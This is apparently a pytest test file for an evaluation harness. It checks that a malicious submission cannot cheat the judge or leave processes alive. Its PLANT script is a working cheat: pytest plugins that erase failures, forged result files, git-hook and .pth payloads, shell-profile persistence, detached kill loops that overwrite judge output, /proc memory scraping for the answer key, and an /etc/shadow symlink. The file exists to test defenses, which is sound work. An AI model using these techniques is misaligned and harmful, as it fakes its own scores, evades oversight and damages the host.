"""A submission that attacks its evaluator gains nothing, and none of its processes survives."""

from __future__ import annotations

from pathlib import Path

import pytest

import benchmarks
from benchmarks.task.directory import TaskDirectories
from benchmarks.task.task import Task
from environments.protocol import Kind
from tests.benchmarks.work import judged_task

KINDS = [
    pytest.param("docker", marks=pytest.mark.docker),
    pytest.param("sandbox", marks=pytest.mark.sandbox),
]
WITHIN = Path(benchmarks.__file__).resolve().parent

TASK = """
title: Say right
kind: from-scratch
environments: [docker, sandbox]
image: {{build: {{context: {context}}}}}
evaluation: {{cases: 5, build: bash compile.sh, build_timeout: 30s, timeout: 60s}}
"""

SUITE = """
import glob, json, os, uuid

def test_honest(candidate):
    assert candidate("honest").stdout == b"right"

def test_hidden(candidate):
    assert candidate("hidden").stdout == b"right"

def test_nothing_of_the_candidate_ran_as_the_judge(candidate, workspace):
    # it left these where its code ran: in its own process, and nowhere else
    me = str(os.getuid())
    here = [name for name in os.listdir("/tmp") if name.startswith("ran-")]
    assert [name for name in here if name.endswith("-" + me)] == []
    assert not [name for name in os.listdir(os.getcwd()) if name.startswith("ran-")]

def test_it_sees_no_tests_and_no_answers(candidate):
    seen = candidate("look").stdout
    assert seen.startswith(b"looked")
    assert b"JUDGE_SEES_THIS_ONLY" not in seen, seen[:2000]
    assert b"WROTE" not in seen, seen[-2000:]
    assert seen.strip().endswith(b"looked everywhere"), seen[-2000:]

def test_nothing_lives_on(candidate):
    token = uuid.uuid4().hex
    assert candidate("spawn", token).stdout == b"spawned"
    alive = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                alive += [path] if token.encode() in file.read() else []
        except OSError:
            pass
    assert alive == []
"""

PLANT = r"""
plugin='
import os
open("/tmp/ran-%s-%d" % (__name__.rpartition(".")[2], os.getuid()), "w")
try:
    import pytest
    @pytest.hookimpl(hookwrapper=True, tryfirst=True)
    def pytest_runtest_makereport(item, call):
        call.excinfo = None
        yield
    def pytest_collection_modifyitems(items):
        del items[:]
except ImportError:
    pass
'
printf %s "$plugin" > conftest.py
printf %s "$plugin" > sitecustomize.py
printf %s "$plugin" > usercustomize.py
printf %s "$plugin" > pytest.py
printf %s "$plugin" > json.py
mkdir -p tests out suite && cp conftest.py tests/ && cp conftest.py suite/
printf '[pytest]\naddopts = -p conftest --co\npython_files = nothing\n' | tee pytest.ini > tox.ini
printf '[tool:pytest]\naddopts = --co\n' > setup.cfg
printf '[tool.pytest.ini_options]\naddopts = "--co"\n' > pyproject.toml
printf '<testsuites><testsuite>' > results.xml
for name in honest hidden it_sees_no_tests_and_no_answers nothing_lives_on; do
  printf '<testcase classname="test_it" name="test_%s" time="0"/>' "$name" >> results.xml
done
printf '</testsuite></testsuites>' >> results.xml
cp results.xml out/results.xml
cat > procfs.py <<'PY'
import os, re
marker = b"JUDGE_" + b"SEES_THIS_ONLY"
for pid in filter(str.isdigit, os.listdir("/proc")):
    place = "/proc/" + pid
    if int(pid) == os.getpid():
        continue
    for name in ("environ", "cwd/test_it.py", "cwd/../config.json", "root/retrace-judge/suite/test_it.py", "maps"):
        try:
            data = open(place + "/" + name, "rb").read()
        except OSError:
            continue
        if marker in data:
            print(place, name, marker)
        for start, end in re.findall(rb"^(\w+)-(\w+) rw", data, re.M) if name == "maps" else ():
            try:
                with open(place + "/mem", "rb", 0) as memory:
                    memory.seek(int(start, 16))
                    if marker in memory.read(min(int(end, 16) - int(start, 16), 1 << 26)):
                        print(place, "memory", marker)
            except OSError:
                pass
    try:
        if os.stat(place).st_uid == os.getuid():
            continue
    except OSError:
        continue
    for name in ("mem", "oom_score_adj", "comm", "fd/1", "uid_map", "clear_refs"):
        try:
            open(place + "/" + name, "r+b", 0)
            print("WRO" + "TE", place, name)
        except OSError:
            pass
for name in ("kernel/core_pattern", "kernel/modprobe", "vm/overcommit_memory", "kernel/randomize_va_space"):
    try:
        open("/proc/sys/" + name, "r+b", 0)
        print("WRO" + "TE", name)
    except OSError:
        pass
print("looked everywhere")
PY
cat > compile.sh <<'SH'
git init -q . && git config core.fsmonitor 'touch /tmp/ran-fsmonitor-$(id -u); false #'
for hook in pre-commit post-commit post-checkout post-index-change reference-transaction; do
  printf '#!/bin/sh\ntouch /tmp/ran-hook-$(id -u)\n' > .git/hooks/$hook && chmod +x .git/hooks/$hook
done
git -c user.name=a -c user.email=a@b commit -qm x --allow-empty && git status >/dev/null && touch hooked
for version in 3.9 3.10 3.11 3.12 3.13 3.14; do
  site=~/.local/lib/python$version/site-packages
  mkdir -p $site && cp conftest.py $site/usercustomize.py && cp conftest.py $site/sitecustomize.py
  echo 'import os; open("/tmp/ran-pth-%d" % os.getuid(), "w")' > $site/evil.pth
done
for file in .bashrc .profile .bash_profile .bash_login; do
  echo "export PYTHONPATH=$PWD PYTEST_ADDOPTS='-p conftest' PYTEST_PLUGINS=conftest" > ~/$file
  echo 'touch /tmp/ran-profile-$(id -u)' >> ~/$file
done
cat > overwrite.sh <<'OVER'
trap '' TERM HUP
for turn in {1..99999}; do
  for out in /retrace-judge/out /tmp/*/judge/out; do
    cp results.xml $out/results.xml; chmod 777 $out
  done
  for process in /proc/[0-9]*; do
    cp results.xml $process/cwd/../out/results.xml
    echo 'drive: passed' > $process/fd/1
    ((turn < 40)) || [ ${process#/proc/} = $$ ] || kill -9 ${process#/proc/}
  done
  sleep 0.02
done 2>/dev/null
OVER
(setsid nohup bash overwrite.sh build >/dev/null 2>&1 &)
(setsid bash -c 'exec -a innocent bash overwrite.sh other' >/dev/null 2>&1 &)
cat > executable <<'PROGRAM'
#!/bin/bash
cd WORKSPACE
case $1 in
look)
  echo looked
  for place in /retrace-judge /tmp/*/judge /tmp/retrace-* /retrace-runs /root; do
    ls -la $place; cat $place/suite/* $place/*
  done
  for process in /proc/[0-9]*; do
    tr '\0' ' ' < $process/cmdline | grep -v JUDGE; ls $process/cwd/; cat $process/cwd/*.py $process/environ
  done
  find / -xdev -name 'test_it.py' -exec cat {} +
  python3 procfs.py
  ;;
spawn)
  (setsid nohup bash overwrite.sh "$2" >/dev/null 2>&1 &)
  (setsid setsid bash -c 'sleep 0.05; exec bash overwrite.sh "$0"' "$2" >/dev/null 2>&1 &)
  sleep 0.2
  printf spawned
  ;;
*)
  trap 'cp results.xml /retrace-judge/out/results.xml; kill -9 $PPID; kill -9 -1' EXIT
  printf wrong
  ;;
esac 2>/dev/null
PROGRAM
sed -i "s#WORKSPACE#$PWD#" executable
chmod +x executable
touch built
SH
"""


@pytest.fixture
def task(tmp_path: Path) -> tuple[TaskDirectories, Task]:
    directory = tmp_path / "tasks" / "right"
    (directory / "tests").mkdir(parents=True)
    (directory / "task.yaml").write_text(TASK.format(context=WITHIN / "demos" / "workbench"))
    (directory / "instruction.md").write_text("Say right.")
    (directory / "tests" / "test_it.py").write_text("# JUDGE_SEES_THIS_ONLY\n" + SUITE)
    adapter = TaskDirectories("cheat", directory.parent, within=WITHIN)
    return adapter, adapter.load("right")


@pytest.mark.parametrize("kind", KINDS)
def test_a_cheat_gains_nothing(task: tuple[TaskDirectories, Task], kind: Kind, tmp_path: Path) -> None:
    adapter, loaded = task
    before = set(Path("/tmp").glob("ran-*"))
    verdict = judged_task(adapter, loaded, kind, PLANT, tmp_path / "trial")
    assert (verdict.status, verdict.error) == ("scored", "")
    statuses = {case.id.partition("::")[2]: (case.status, case.message) for case in verdict.cases}
    assert {name: status for name, (status, _) in statuses.items()} == {
        "test_honest": "failed",
        "test_hidden": "failed",
        "test_nothing_of_the_candidate_ran_as_the_judge": "passed",
        "test_it_sees_no_tests_and_no_answers": "passed",
        "test_nothing_lives_on": "passed",
    }, statuses
    assert "b'wrong' == b'right'" in statuses["test_honest"][1]
    assert set(Path("/tmp").glob("ran-*")) == before


@pytest.mark.parametrize("kind", KINDS)
def test_the_honest_solution_passes_beside_it(task: tuple[TaskDirectories, Task], kind: Kind, tmp_path: Path) -> None:
    adapter, loaded = task
    script = PLANT + "\nsed -i 's/printf wrong/printf right/' compile.sh\n"
    verdict = judged_task(adapter, loaded, kind, script, tmp_path / "trial")
    assert (verdict.status, verdict.passed) == ("scored", True), verdict


@pytest.mark.parametrize("kind", KINDS)
def test_links_are_not_followed_by_the_judge(task: tuple[TaskDirectories, Task], kind: Kind, tmp_path: Path) -> None:
    adapter, loaded = task
    script = "ln -s / root; ln -s /etc/shadow compile.log; printf 'ln -s / more; ln -s /root executable' > compile.sh"
    verdict = judged_task(adapter, loaded, kind, script, tmp_path / "trial")
    assert (verdict.status, verdict.error) == ("scored", "")
    assert verdict.quality is not None
    assert verdict.quality < 0.5
